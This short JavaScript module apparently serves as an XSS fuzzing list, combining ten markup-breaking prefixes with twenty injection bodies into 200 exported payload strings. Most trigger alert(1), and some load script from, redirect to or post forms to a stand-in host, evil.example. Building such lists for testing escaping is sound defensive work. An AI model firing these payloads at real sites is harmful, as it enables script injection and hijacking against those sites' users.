// Two hundred texts that become markup, script or an attribute wherever somebody forgot to escape them.

const openings = ["", "\"", "'", "\">", "'>", "</title>", "</textarea>", "-->", "]]>", "\"/>"];
const bodies = [
  "<script>alert(1)</script>",
  "<ScRiPt>alert(1)</ScRiPt>",
  "<script/src=//evil.example/x></script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<body onload=alert(1)>",
  "<iframe src=javascript:alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<details open ontoggle=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<form action=//evil.example><button>x",
  "<base href=//evil.example>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<link rel=stylesheet href=//evil.example>",
  "<style>*{display:none}</style>",
  "<math><mtext></mtext><script>alert(1)</script>",
  " onmouseover=alert(1) x=",
  " autofocus onfocus=alert(1) ",
  "<template><script>alert(1)</script></template>",
];

export const payloads = openings.flatMap((opening) => bodies.map((body) => opening + body));
